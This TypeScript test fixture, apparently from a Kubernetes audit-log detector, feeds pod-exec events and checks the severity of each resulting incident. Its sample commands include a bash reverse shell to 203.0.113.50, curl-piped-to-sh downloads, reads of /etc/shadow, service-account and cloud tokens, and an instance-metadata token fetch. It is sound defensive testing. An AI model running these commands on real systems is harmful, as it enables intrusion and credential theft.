import { type DetectionFixture, ev, user } from "./fixture.js";

const pod = (namespace: string, name: string, query: string, extra: object = {}) => ({
  resource: "pods",
  subresource: "exec",
  namespace,
  name,
  requestURI: `/api/v1/namespaces/${namespace}/pods/${name}/exec?${query}`,
  code: 101,
  stage: "ResponseStarted" as const,
  ...extra,
});

const sameRequest = "00000000-0000-4000-b000-000000000001";
/** The `command=` parameters kubectl sends, one per argument, URL-encoded. */
const cmd = (...argv: string[]) => argv.map((a) => `command=${encodeURIComponent(a)}`).join("&");
const exec = (seconds: number, argv: string[], namespace = "default", name = "web-0") =>
  ev(seconds, { ...user("mallory@contoso.com"), verb: "create", ...pod(namespace, name, `${cmd(...argv)}&container=web&stdout=true&stderr=true`) });

export const positive: DetectionFixture[] = [
  {
    name: "an interactive shell over WebSockets (kubectl ≥ 1.30 logs verb get) is High",
    events: [ev(0, { ...user("alice@contoso.com"), verb: "get", ...pod("default", "web-0", "command=bash&container=web&stdin=true&stdout=true&tty=true") })],
    incidents: [
      {
        severity: "High",
        actor: "alice@contoso.com",
        eventCount: 1,
        titleIncludes: ["exec'd into pod default/web-0", "bash"],
        evidence: { commands: ["bash"], interactiveShell: true },
      },
    ],
  },
  {
    name: "a one-off command with SPDY (verb create) outside system namespaces is Medium, the command URL-decoded",
    events: [
      ev(0, { ...user("alice@contoso.com"), verb: "create", ...pod("default", "web-0", "command=cat&command=%2Fetc%2Fpasswd&container=web&stdout=true") }),
    ],
    incidents: [{ severity: "Medium", evidence: { commands: ["cat /etc/passwd"], containers: ["web"], interactiveShell: false } }],
  },
  {
    name: "a command that reads the service-account token is High",
    events: [
      ev(0, {
        ...user("alice@contoso.com"),
        verb: "get",
        ...pod("default", "web-0", "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"),
      }),
    ],
    incidents: [{ severity: "High", evidence: { credentialAccess: true } }],
  },
  {
    name: "any exec in kube-system is High",
    events: [ev(0, { ...user("alice@contoso.com"), verb: "create", ...pod("kube-system", "coredns-abc", "command=ls&container=coredns&stdout=true") })],
    incidents: [{ severity: "High", targets: ["pods/kube-system/coredns-abc"] }],
  },
  {
    name: "ResponseStarted and ResponseComplete of one request count once; three requests update one incident",
    events: [
      ev(0, { ...user("alice@contoso.com"), auditID: sameRequest, verb: "get", ...pod("default", "web-0", "command=sh&stdin=true&tty=true") }),
      ev(300, {
        ...user("alice@contoso.com"),
        auditID: sameRequest,
        verb: "get",
        ...pod("default", "web-0", "command=sh&stdin=true&tty=true", { stage: "ResponseComplete" }),
      }),
      ev(400, { ...user("alice@contoso.com"), verb: "get", ...pod("default", "web-0", "command=id") }),
      ev(500, { ...user("alice@contoso.com"), verb: "get", ...pod("default", "web-0", "command=env") }),
    ],
    incidents: [{ severity: "High", eventCount: 3, evidence: { commands: ["sh", "id", "env"] } }],
  },
  {
    name: "attach is reported like exec",
    events: [
      ev(0, {
        ...user("bob@contoso.com"),
        verb: "create",
        ...pod("default", "web-0", "container=web&stdin=true&stdout=true&tty=true", {
          subresource: "attach",
          requestURI: "/api/v1/namespaces/default/pods/web-0/attach?container=web&stdin=true&stdout=true&tty=true",
        }),
      }),
    ],
    incidents: [{ severity: "Medium", titleIncludes: ["attached to pod default/web-0"] }],
  },
  {
    name: "kubectl debug adds an ephemeral container: reported with its image and command",
    events: [
      ev(0, {
        ...user("bob@contoso.com"),
        verb: "patch",
        resource: "pods",
        subresource: "ephemeralcontainers",
        namespace: "payments",
        name: "api-0",
        level: "RequestResponse",
        requestObject: { spec: { ephemeralContainers: [{ name: "debugger-x7k", image: "busybox:1.36", command: ["sh"], stdin: true, tty: true }] } },
      }),
    ],
    incidents: [
      { severity: "High", titleIncludes: ["added a debug container to pod payments/api-0"], evidence: { containers: ["busybox:1.36"], commands: ["sh"] } },
    ],
  },
  {
    name: "masterclient is the downloaded admin credential: a person, reported",
    events: [
      ev(0, {
        username: "masterclient",
        groups: ["system:masters", "system:authenticated"],
        verb: "get",
        ...pod("default", "web-0", "command=sh&tty=true&stdin=true"),
      }),
    ],
    incidents: [{ severity: "High", actor: "masterclient" }],
  },
  {
    name: "two pods are two incidents",
    events: [
      ev(0, { ...user("carol@contoso.com"), verb: "get", ...pod("default", "a", "command=ls") }),
      ev(10, { ...user("carol@contoso.com"), verb: "get", ...pod("default", "b", "command=ls") }),
    ],
    incidents: [
      { severity: "Medium", targets: ["pods/default/a"] },
      { severity: "Medium", targets: ["pods/default/b"] },
    ],
  },
  // What the commands reach for (rows 29–34, 36).
  {
    name: "a reverse shell one-liner is High and named in the title",
    events: [exec(0, ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"])],
    incidents: [{ severity: "High", titleIncludes: [": reverse shell"], evidence: { variants: ["reverseShell", "shellOrTool"], interactiveShell: false } }],
  },
  {
    name: "reading the AKS workload-identity token is credential access (High)",
    events: [exec(0, ["cat", "/var/run/secrets/azure/tokens/azure-identity-token"])],
    incidents: [{ severity: "High", titleIncludes: ["credential access"], evidence: { variants: ["credentialAccess"], credentialAccess: true } }],
  },
  {
    name: "private keys, another process's environment and /etc/shadow are credential access",
    events: [
      exec(0, ["cat", "/etc/tls/private/tls.key"]),
      exec(1, ["sh", "-c", "cat /proc/1/environ | tr '\\0' '\\n'"], "default", "web-1"),
      exec(2, ["cat", "/etc/shadow"], "default", "web-2"),
    ],
    incidents: [
      { severity: "High", targets: ["pods/default/web-0"], evidence: { variants: ["credentialAccess"] } },
      { severity: "High", targets: ["pods/default/web-1"], evidence: { variants: ["credentialAccess", "shellOrTool"] } },
      { severity: "High", targets: ["pods/default/web-2"], evidence: { variants: ["credentialAccess"] } },
    ],
  },
  {
    name: "curl to the Azure instance-metadata token endpoint is instance metadata (High), not a download",
    events: [
      exec(0, [
        "curl",
        "-s",
        "-H",
        "Metadata: true",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
      ]),
    ],
    incidents: [{ severity: "High", titleIncludes: ["instance metadata"], evidence: { variants: ["instanceMetadata", "shellOrTool"] } }],
  },
  {
    name: "a script fetched with curl and piped to sh is a download (Medium)",
    events: [exec(0, ["sh", "-c", "curl -fsSL https://203.0.113.80/x.sh | sh"])],
    incidents: [{ severity: "Medium", titleIncludes: [": download"], evidence: { variants: ["download", "shellOrTool"] } }],
  },
  {
    name: "a bearer token on the command line is masked in the evidence",
    events: [
      exec(0, [
        "curl",
        "-sk",
        "-H",
        "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ",
        "https://10.0.0.1/api/v1/secrets",
      ]),
    ],
    incidents: [{ severity: "Medium", evidence: { commands: ["curl -sk -H Authorization: Bearer <redacted-jwt> https://10.0.0.1/api/v1/secrets"] } }],
  },
  {
    name: "kubectl cp from a pod (tar cf - to stdout) is a copy out (Medium)",
    events: [exec(0, ["tar", "cf", "-", "/app/data"])],
    incidents: [{ severity: "Medium", titleIncludes: ["copy out of the pod"], evidence: { variants: ["copyOut"] } }],
  },
  {
    name: "kubectl cp of the service-account directory is a copy out and credential access (High)",
    events: [exec(0, ["tar", "czf", "-", "/var/run/secrets/kubernetes.io/serviceaccount"])],
    incidents: [{ severity: "High", evidence: { variants: ["credentialAccess", "copyOut"] } }],
  },
  {
    name: "kubectl cp into a pod (tar -xmf -) is a copy in (Medium)",
    events: [exec(0, ["tar", "-xmf", "-", "-C", "/tmp"])],
    incidents: [{ severity: "Medium", titleIncludes: ["copy into the pod"], evidence: { variants: ["copyIn"] } }],
  },
  {
    name: "an interpreter without a TTY is a shell or tool, Medium",
    events: [exec(0, ["python3.11", "-c", "print(1)"])],
    incidents: [{ severity: "Medium", evidence: { variants: ["shellOrTool"], interactiveShell: false } }],
  },
  {
    name: "near misses stay plain: a JWKS fetch, a local /dev/tcp health check, a tar archive written to a file",
    events: [
      exec(0, ["curl", "-s", "https://kubernetes.default.svc/openid/v1/jwks"]),
      exec(1, ["bash", "-c", "echo > /dev/tcp/127.0.0.1/8080"], "default", "web-1"),
      exec(2, ["tar", "czf", "backup.tar.gz", "/app/data"], "default", "web-2"),
    ],
    incidents: [
      { severity: "Medium", targets: ["pods/default/web-0"], evidence: { variants: ["shellOrTool"] } },
      { severity: "Medium", targets: ["pods/default/web-1"], evidence: { variants: ["shellOrTool"] } },
      { severity: "Medium", targets: ["pods/default/web-2"], evidence: { variants: [] } },
    ],
  },
  {
    name: "kubectl debug logged at Metadata level (no body): reported as a debug container, Medium",
    events: [
      ev(0, {
        ...user("bob@contoso.com"),
        verb: "patch",
        resource: "pods",
        subresource: "ephemeralcontainers",
        namespace: "payments",
        name: "api-0",
      }),
    ],
    incidents: [
      { severity: "Medium", titleIncludes: ["added a debug container to pod payments/api-0"], evidence: { variants: ["debugContainer"], commands: [] } },
    ],
  },
  {
    name: "a debug container added by JSON patch, running a download, without a TTY",
    events: [
      ev(0, {
        ...user("bob@contoso.com"),
        verb: "patch",
        resource: "pods",
        subresource: "ephemeralcontainers",
        namespace: "payments",
        name: "api-0",
        level: "RequestResponse",
        requestObject: [
          {
            op: "add",
            path: "/spec/ephemeralContainers/-",
            value: { name: "dbg", image: "curlimages/curl:8.5.0", command: ["curl", "-o", "/tmp/x", "https://203.0.113.80/x"] },
          },
        ],
      }),
    ],
    incidents: [{ severity: "Medium", evidence: { variants: ["download", "shellOrTool", "debugContainer"], containers: ["curlimages/curl:8.5.0"] } }],
  },
];

export const negative: DetectionFixture[] = [
  {
    name: "a refused exec (403) is not an exec",
    events: [
      ev(0, {
        ...user("eve@contoso.com"),
        verb: "create",
        ...pod("default", "web-0", "command=sh&tty=true"),
        code: 403,
        decision: "forbid",
        stage: "ResponseComplete",
      }),
    ],
    incidents: [],
  },
  {
    name: "AKS's own problem detector is allowlisted",
    events: [ev(0, { username: "aksProblemDetector", verb: "create", ...pod("kube-system", "konnectivity-agent-1", "command=true") })],
    incidents: [],
  },
  {
    name: "reading a pod, its logs, or its ephemeral containers is not exec",
    events: [
      ev(0, { ...user("alice@contoso.com"), verb: "get", resource: "pods", namespace: "default", name: "web-0" }),
      ev(1, { ...user("alice@contoso.com"), verb: "get", resource: "pods", subresource: "log", namespace: "default", name: "web-0" }),
      ev(2, { ...user("alice@contoso.com"), verb: "get", resource: "pods", subresource: "ephemeralcontainers", namespace: "default", name: "web-0" }),
    ],
    incidents: [],
  },
  {
    name: "an actor allowlisted in the config",
    config: { "pod-exec": { allowActors: ["system:serviceaccount:ci:*"] } },
    events: [ev(0, { username: "system:serviceaccount:ci:runner", verb: "create", ...pod("default", "web-0", "command=sh") })],
    incidents: [],
  },
  {
    name: "a command allowlisted in the config (automation that execs by design)",
    config: { "pod-exec": { ignoreCommands: ["pg_dump *"] } },
    events: [exec(0, ["pg_dump", "-Fc", "orders"])],
    incidents: [],
  },
  {
    name: "disabled in the config",
    config: { "pod-exec": { enabled: false } },
    events: [ev(0, { ...user("alice@contoso.com"), verb: "create", ...pod("default", "web-0", "command=sh&tty=true") })],
    incidents: [],
  },
];
